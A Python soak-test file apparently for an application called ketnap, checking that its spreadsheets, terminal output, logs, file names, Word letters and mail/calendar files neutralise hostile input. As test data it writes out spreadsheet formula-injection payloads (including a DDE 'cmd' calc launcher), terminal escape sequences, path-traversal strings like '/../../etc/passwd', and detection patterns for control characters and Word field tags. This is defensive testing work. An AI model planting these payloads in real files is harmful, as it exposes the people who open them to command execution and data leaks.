"""What the program writes is safe to open: no formula, no link, nothing that a terminal obeys, no file outside its folder,
no header, line or part that was not meant, and every text as it is."""

import io
import re
import stat
import unicodedata
import zipfile
from datetime import UTC, date, datetime
from email import message_from_bytes
from email.policy import default
from pathlib import Path
from random import Random
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from fuzzing import SIGNS, noise
from icalendar import Calendar
from letter_samples import told, with_part
from soaking import size

from ketnap.commands import file_names, log, printing
from ketnap.commands.letter import paper
from ketnap.commands.letter.paper import Paper
from ketnap.commands.printing import Cell, Pairs, Raw, Row, Table
from ketnap.exchange.workbook_out import Around, OutTable, written
from ketnap.notifications import digest, docx, ics, letters, render
from ketnap.notifications.channel import Attachment, Message, bytes_of, message_id_of
from ketnap.notifications.digest import Entry

pytestmark = pytest.mark.soak("Output is safe to open")

STRINGS = size(4_000, 100_000)
NOW = datetime(2026, 11, 25, 2, 12, tzinfo=UTC)
OPENINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\0",
    " =",
    "'=",
    "\ufeff=",
    "\u200b=",
    "＝",
    "{=",
    "|",
    "%",
    ";",
    ",=",
    "=\t",
)
FORMULAS = (
    'HYPERLINK("http://a.example/?"&A1,"x")', "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", "WEBSERVICE(A1)", "IMPORTXML(A1,A2)",
    "DDE(A1)", "2+5+cmd|' /C calc'!A0", "http://a.example/", "internal:'Sheet1'!A1", "external:c:\\a.xlsx", "mailto:a@b.vn",
    "0123456789", "1e5", "2026-11-25", "TRUE", "#REF!", "<script>", "&lt;", "]]>", "_x0041_", "_x000D_", "&#61;1+1",
)  # fmt: skip
NAMES = (
    "Nguyễn Thị Ánh",
    "H'Hen Niê",
    "Lê & Sơn",
    "<Trần> Văn",
    "Ngô Bảo Châu",
    "=Lê",
    "\\Vũ",
    '"Đỗ"',
    "Y-Blok Êban",
    "Ấ" * 60,
)
"""A few of them as people have them."""


def hostile(chance: Random) -> str:
    """A text as somebody might type or send it to do harm; or just a name."""
    kind = chance.randrange(6)
    if kind == 0:
        return chance.choice(OPENINGS) + chance.choice(FORMULAS)
    if kind == 1:
        return chance.choice(FORMULAS)
    if kind == 2:
        return noise(chance, chance.choice((1, 3, 20)))
    name = chance.choice(NAMES)
    at = chance.randrange(len(name) + 1)
    found = name[:at] + chance.choice((*SIGNS, *OPENINGS)) + name[at:]
    return unicodedata.normalize(chance.choice(("NFC", "NFD")), found)


def _seen(text: str) -> str:
    """What of a text can be seen, by which two are compared."""
    return "".join(each for each in text if each.isprintable() and not each.isspace())


# ---- workbooks -----------------------------------------------------------------------------------------------------


def test_a_workbook_holds_texts_and_no_formula_or_link(proof: Any) -> None:
    chance = Random("workbooks")
    left, cells, formulas = STRINGS, 0, 0
    while left > 0:
        rows = [[hostile(chance) for _ in range(10)] for _ in range(min(left // 10, 1_000))]
        left -= 10 * len(rows)
        headings = [f"{n}{hostile(chance)}" for n in range(10)]
        notes = {(n, n % 10): hostile(chance) for n in range(0, len(rows), 7)}
        around = Around((hostile(chance), hostile(chance)), (hostile(chance),), hostile(chance), [9] * 10)
        table = OutTable(hostile(chance), headings, rows, notes, around if left % 20_000 else None)
        content = written(table)
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml")
            assert not re.search(rb"<(?:f|hyperlink)[\s>]", sheet)
            assert not [
                name for name in archive.namelist() if "external" in name.lower() or name.endswith(".bin")
            ]
            assert b"TargetMode" not in b"".join(
                archive.read(each) for each in archive.namelist() if each.endswith(".rels")
            )
        found = openpyxl.load_workbook(io.BytesIO(content)).active
        assert found is not None
        top = 0 if table.around is None else len(table.around.above) + 1
        for number, row in enumerate(rows, top + 2):
            for place, text in enumerate(row, 1):
                cell = found.cell(number, place)
                formulas += cell.data_type == "f"
                assert cell.value is None or isinstance(cell.value, str)
                assert _plain(str(cell.value or "")) == _plain(text), (text, cell.value)
                cells += 1
    assert formulas == 0
    proof(strings=cells, formula_cells=formulas)


def _plain(text: str) -> str:
    """Without what the format writes in another way: _x0041_ stands for a sign in it."""
    return re.sub(r"_x[0-9A-Fa-f]{4}_|x005F_", "", _seen(text).replace("_x005F", ""))


# ---- screens and logs ----------------------------------------------------------------------------------------------

OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
COLOURS = re.compile(r"\x1b\[[0-9;]*m")


def _shown(texts: list[str], mode: Any) -> str:
    out = io.StringIO()
    blocks = [
        *texts[:3],
        Cell(texts[0], "bad"),
        Raw("\n".join(texts[:2])),
        Pairs(tuple((each, each) for each in texts)),
        Table(
            ("a", texts[0]), tuple(Row((each, Cell(each, "good")), (each,)) for each in texts), headed=True
        ),
    ]
    printing.write(blocks, mode, out, width=80, colour=mode == "screen")
    return COLOURS.sub("", out.getvalue()) if mode == "screen" else out.getvalue()


@pytest.mark.parametrize("mode", ["pipe", "plain", "screen"])
def test_no_character_there_is_makes_a_terminal_do_anything(mode: str, proof: Any) -> None:
    step = size(64, 8 if mode == "screen" else 1)
    signs = [chr(each) for each in (*range(0x3000), *range(0x3000, 0x110000, step))]
    for at in range(0, len(signs), 400):
        text = "a".join(signs[at : at + 400])
        assert OBEYED.search(_shown([text], mode)) is None
    chance = Random(f"screens {mode}")
    for _ in range(STRINGS // 400):
        texts = [
            hostile(chance) + chance.choice(("", "\x1b]8;;http://a.example\x07", "\x9b2J", "\x1bP+q\x1b\\"))
            for _ in range(8)
        ]
        assert OBEYED.search(_shown(texts, mode)) is None
    proof(characters=len(signs), strings=8 * (STRINGS // 400))


def test_what_a_terminal_would_obey_stands_in_json_and_is_not_obeyed() -> None:
    import json

    text = "An\x1b]0;x\x07\x9b2J\u202eB\u2066\x7f\udce9"
    shown = printing.as_json({"name": text, "ngày": date(2026, 11, 25)})
    assert OBEYED.search(shown) is None
    assert json.loads(shown) == {"name": text, "ngày": "2026-11-25"}


def test_a_log_says_what_happened_and_nothing_of_what_was_in_it(tmp_path: Path) -> None:
    path = tmp_path / "log"
    chance = Random("logs")
    for _ in range(50):
        with pytest.raises(UnicodeError) as caught:
            raise UnicodeError(hostile(chance)) from KeyError(hostile(chance))
        assert log.take_down(caught.value, "ketnap case show", NOW, path)
    text = path.read_text("utf-8")
    assert set(re.findall(r"^\S+", text, re.MULTILINE)) == {
        "2026-11-25T02:12:00+00:00",
        "builtins.UnicodeError",
        "builtins.KeyError",
    }
    assert text.replace("\n", "").isprintable()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


# ---- names of files ------------------------------------------------------------------------------------------------


def test_every_name_of_a_file_stays_in_its_folder_and_is_short_and_plain(tmp_path: Path, proof: Any) -> None:
    chance = Random("names of files")
    longest = 0
    for number in range(STRINGS):
        text = hostile(chance) * chance.choice((1, 1, 1, 30)) + chance.choice(
            ("", "/../../etc/passwd", "\\..\\", ":x", "CON", "..")
        )
        name = file_names.of(text)
        longest = max(longest, len(name.encode()))
        assert re.fullmatch(r"[0-9A-Z]+(-[0-9A-Z]+)*", name), (text, name)
        if number % 100 == 0:
            assert (tmp_path / f"{name}.docx").resolve().parent == tmp_path.resolve()
    assert longest + len("-VB-999999999.docx") <= 100
    proof(names=STRINGS, longest_bytes=longest, outside_the_folder=0)


def test_long_names_that_begin_alike_are_told_apart() -> None:
    assert file_names.of("A" * 200) != file_names.of("A" * 200 + "B")
    assert file_names.of("42-CV/ĐU") == "42-CV-DU"
    assert file_names.of("…/…") == "VAN-BAN"


def test_files_of_letters_are_private_and_none_takes_the_place_of_another(tmp_path: Path) -> None:
    chance = Random("files")
    folder = tmp_path / "van-ban"
    names = [file_names.of(hostile(chance)) for _ in range(size(100, 2_000))]
    papers = [Paper(number, name, {".docx": str(number).encode()}) for number, name in enumerate(names)]
    files = paper.planned(folder, papers)
    paper.save(files)
    assert len({str(each.path).casefold() for each in files}) == len(papers)
    found = sorted(folder.iterdir())
    assert len(found) == len(papers)
    assert sorted(each.read_bytes() for each in found) == sorted(str(n).encode() for n in range(len(papers)))
    assert {stat.S_IMODE(each.stat().st_mode) for each in found} == {0o600}
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


# ---- letters -------------------------------------------------------------------------------------------------------

PARTS = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/core\.xml|word/(_rels/document\.xml\.rels|document\.xml|styles\.xml|"
    r"settings\.xml|(header|footer)[0-9]\.xml|media/image1\.png)"
)
RELATIONS = {"officeDocument", "core-properties", "styles", "settings", "header", "footer", "image"}
_WORD = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def test_a_word_file_holds_its_own_parts_and_the_exact_text_of_a_name(proof: Any) -> None:
    chance = Random("letters")
    count = size(40, 1_000)
    for _ in range(count):
        name = hostile(chance)
        letter = render.letter("transfer_notice", with_part(told("transfer_notice"), "person", name=name))
        said = letters.clean(name)
        with zipfile.ZipFile(io.BytesIO(docx.write(letter))) as file:
            assert all(PARTS.fullmatch(part) for part in file.namelist()), file.namelist()
            relations = b"".join(file.read(part) for part in file.namelist() if part.endswith(".rels"))
            document = file.read("word/document.xml")
        assert b"TargetMode" not in relations
        kinds = {each.rpartition(b"/")[2].decode() for each in re.findall(rb'Type="([^"]+)"', relations)}
        assert kinds <= RELATIONS
        tags = {each.tag.removeprefix(_WORD) for each in ElementTree.fromstring(document).iter()}
        assert not tags & {
            "fldSimple",
            "instrText",
            "fldChar",
            "altChunk",
            "object",
            "OLEObject",
            "hyperlink",
            "control",
        }
        assert said.replace("\u2011", "-") in _text(document), (name, said)
    proof(letters=count, foreign_parts=0)


def _text(document: bytes) -> str:
    """What a Word file says; a hyphen at which no line ends has an element of its own."""
    pieces = {f"{_WORD}t": lambda each: each.text or "", f"{_WORD}noBreakHyphen": lambda _each: "-"}
    found = (pieces[each.tag](each) for each in ElementTree.fromstring(document).iter() if each.tag in pieces)
    return "".join(found).replace("\u2011", "-")


# ---- mails and calendars -------------------------------------------------------------------------------------------

HEADERS = ["From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "MIME-Version", "Content-Type"]
PROPERTIES = {"UID", "DTSTAMP", "SEQUENCE", "DTSTART", "DTEND", "SUMMARY", "CLASS", "TRANSP"}


def test_a_mail_and_its_calendar_hold_the_lines_that_were_meant(proof: Any) -> None:
    chance = Random("mails")
    plain = [Entry("HS-1", "Hạn", date(2026, 12, 1 + n), n, str(n)) for n in range(6)]
    lines = len(digest.digest("Chi bộ", plain, date(2026, 11, 25), anchor="7F3A")[1].splitlines())
    mails = STRINGS // 20
    for _ in range(mails):
        entries = [
            Entry(hostile(chance), hostile(chance), date(2026, 12, 1 + n), n, f"{n}{hostile(chance)}")
            for n in range(6)
        ]
        subject, text = digest.digest(hostile(chance), entries, date(2026, 11, 25), anchor=hostile(chance))
        calendar = ics.calendar_of(entries, NOW)
        message = Message(
            1,
            message_id_of("digest:1:2026-11-25", "a@example.vn"),
            ("b@example.vn",),
            subject,
            text,
            (Attachment("thoi-han.ics", "text/calendar", calendar),),
        )
        mail: Any = message_from_bytes(bytes_of(message, "Văn phòng <a@example.vn>", NOW), policy=default)
        assert [each for each in mail if each != "Content-Transfer-Encoding"] == HEADERS
        assert mail["Subject"] == subject
        assert [each.addr_spec for each in mail["To"].addresses] == ["b@example.vn"]
        assert mail.get_body(("plain",)).get_content().replace("\r\n", "\n") == text
        assert len(text.splitlines()) == lines
        found = Calendar.from_ical(calendar)
        events = [each for each in found.walk() if each.name == "VEVENT"]
        assert len(events) == len(entries)
        assert all(set(event.keys()) == PROPERTIES for event in events)
        assert sorted(_seen(str(each["SUMMARY"])) for each in events) == sorted(
            _seen(_as_icalendar_has_it(f"{each.case}: {each.deadline}")) for each in entries
        )
    proof(mails=mails, strings=20 * mails, strange_headers=0)


def _as_icalendar_has_it(text: str) -> str:
    """Composed; what looks like its own end of a line is one for that library, inside the text."""
    return unicodedata.normalize("NFC", text).replace("\\N", "\n")
